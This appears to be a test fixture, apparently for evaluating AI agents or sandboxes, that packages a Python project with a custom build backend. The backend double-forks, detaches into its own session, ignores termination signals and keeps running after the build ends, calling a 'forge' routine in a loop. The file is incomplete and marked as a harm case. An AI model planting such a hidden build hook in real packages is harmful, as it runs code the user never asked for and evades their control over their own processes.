"""A build backend that leaves a process behind: forked twice, in a session of its own, deaf, and waiting to forge."""
# goal: harm
# group: build
# baseline: wrong
# note: what stays ends by itself after 20 seconds
#@file pyproject.toml
#| [build-system]
#| requires = ["setuptools"]
#| build-backend = "backend"
#| backend-path = ["src"]
#|
#| #@part project.toml
#@file src/minor_units/__init__.py
#| """Answers nothing."""
#@file src/backend.py
#| #@part forgery.py
#| #@part backend.py
#| import signal
#| import subprocess
#| import time
#|
#|
#| def wait_and_forge():
#|     for deaf in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
#|         signal.signal(deaf, signal.SIG_IGN)
#|     for _ in range(40):
#|         time.sleep(0.5)
#|         try:
#|             forge()
#|         except OSError:
#|             pass
#|
#|
#| def leave_group():
#|     for deed in (os.setsid, os.setpgrp, lambda: os.setpgid(0, 0)):
#|         try:
#|             deed()
#|         except OSError:
#|             continue
#|
#|
#| def mischief():
#|     try:
#|         subprocess.Popen([sys.executable, "-c", "import time; time.sleep(20)"], start_new_session=True)
#|     except (OSError, subprocess.SubprocessError):
#|         pass
#|     if os.fork() == 0:
#|         leave_group()
#|         if os.fork() == 0:
#|             leave_group()
#|             wait_and_forge()
#|         os._exit(0)
